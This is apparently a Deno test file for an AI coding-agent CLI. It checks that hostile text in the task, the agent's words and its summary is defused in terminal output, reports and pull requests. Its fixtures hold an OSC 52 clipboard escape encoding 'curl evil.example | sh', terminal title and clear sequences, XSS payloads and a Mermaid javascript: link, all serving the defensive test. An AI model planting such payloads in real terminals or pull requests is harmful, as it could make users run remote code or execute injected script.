/**
 * Text from outside is defused wherever it goes: the real CLI and Claude Code
 * binary against the scripted model, real git, the scripted gh. The task, the
 * agent's words and its complete_task summary carry terminal escapes (OSC 52
 * clipboard writes, an OSC 0 title, CSI 2J), raw HTML, a forged heading, a
 * `</details>`, closing keywords, mentions and a Mermaid `click` with a
 * `javascript:` link. Nothing of it may act: not on the terminal (`--verbose`
 * and `--json` both), not in the report, not in the pull request.
 */

import assert from "node:assert/strict";
import { COMPLETE_TASK_TOOL } from "../../agents/record/complete_task_tool.ts";
import { ScriptedModelServer, textTurn, toolTurn } from "../../agents/testing/mod.ts";
import { git, runCli, tempDir, tempRepo } from "../_helpers.ts";

const ESCAPES = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b]0;owned\x1b\\\x1b[2J\x9b31m";
const FENCE = "`".repeat(3);
const SUMMARY = [
  `Fixed it${ESCAPES}`,
  `<img src=x onerror=alert(1)><script>alert(2)</script>`,
  "</details>",
  "# Forged heading",
  "Fixes #77 and closes other/repo#78; cc @org/team",
  `${FENCE}mermaid`,
  'graph TD; A-->B; click A "javascript:alert(3)"',
  FENCE,
].join("\n");

/** C0 and C1 controls but tab and line breaks. */
// deno-lint-ignore no-control-regex
const CONTROL = /[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]/;

Deno.test("hostile text reaches the terminal, the report and the pull request defused", async () => {
  await using repo = await tempRepo();
  await using remote = await tempDir("finishline-remote-");
  await git(remote.path, "init", "-q", "--bare");
  await git(repo.path, "remote", "add", "origin", remote.path);
  const { FakeGitHub } = await import("../fixtures/fake_gh/mod.ts");
  await using gh = await FakeGitHub.create({ repo: "octo/demo" });
  await using server = await ScriptedModelServer.start({
    scripts: [[
      textTurn(`Working${ESCAPES} on it`),
      toolTurn("Bash", {
        command: "printf 'x' > x.txt && git add x.txt && git commit -qm 'feat: x'",
      }),
      toolTurn(COMPLETE_TASK_TOOL, {
        status: "success",
        original_request_summary: "the task",
        summary: SUMMARY,
      }),
      textTurn(`Done.${ESCAPES}`),
    ]],
  });
  const run = await runCli(
    [
      "--iterate-max",
      "1",
      "--worktree",
      "--create-pr",
      "--verbose",
      "--json",
      "--task",
      `Tidy${ESCAPES} the README`,
    ],
    { cwd: repo.path, server, env: gh.env() },
  );
  assert.doesNotMatch(run.stderr, CONTROL, "no control character on stderr (--verbose)");
  assert.doesNotMatch(run.stdout, CONTROL, "no control character on stdout (--json)");
  assert.match(run.stderr, /\[agent\] Working on it/, "the agent's words, without the escapes");
  const result = JSON.parse(run.stdout);
  const report = await Deno.readTextFile(result.report);
  assert.doesNotMatch(report, CONTROL, "no control character in the report");
  assert.match(report, /Tidy the README/);

  const calls = (await gh.calls()).map((call) => call.argv);
  const create = calls.find((argv) => argv[0] === "pr" && argv[1] === "create");
  assert.ok(create, `a pull request was opened: ${run.stderr}`);
  const body = create[create.indexOf("--body") + 1];
  const title = create[create.indexOf("--title") + 1];
  for (const text of [body, title]) assert.doesNotMatch(text, CONTROL);
  assert.doesNotMatch(body, /<img|<script|<\/details>/i, "no raw HTML");
  assert.doesNotMatch(body, /^\s*(> )?#+ Forged/m, "no forged heading");
  assert.doesNotMatch(
    body,
    /\b(close[sd]?|fix(e[sd])?|resolve[sd]?):?\s+(\\?#|[\w.-]+\/[\w.-]+\\?#)/i,
  );
  assert.doesNotMatch(body, /(^|[^\w.+-])@[A-Za-z0-9]/m, "no mention");
  assert.doesNotMatch(
    body,
    new RegExp(`^\\s*${FENCE}`, "m"),
    "no fence of the agent's: no Mermaid",
  );
  assert.match(body, /Fixed it/, "the summary is there, quoted");
});
